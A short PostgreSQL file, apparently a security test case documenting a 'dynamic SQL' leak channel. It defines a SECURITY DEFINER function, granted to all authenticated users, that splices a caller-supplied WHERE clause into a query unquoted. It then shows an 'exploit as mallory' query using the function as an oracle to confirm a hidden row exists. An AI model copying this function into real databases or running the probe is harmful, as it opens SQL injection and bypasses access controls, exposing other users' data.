-- channel: dynamic SQL
-- object: public.count_rows
-- says: A definer function counts the rows of whatever table it is given, with whatever condition.
create function public.count_rows(p_table text, p_where text default 'true')
returns bigint
language plpgsql security definer
set search_path = ''
as $$
declare
    result bigint;
begin
    execute format('select count(*) from public.%I where %s', p_table, p_where) into result;
    return result;
end
$$;
grant execute on function public.count_rows(text, text) to authenticated;
-- exploit as mallory
select where public.count_rows('tasks', 'title = ''Cut the film''') = 1;
-- leaks when rows
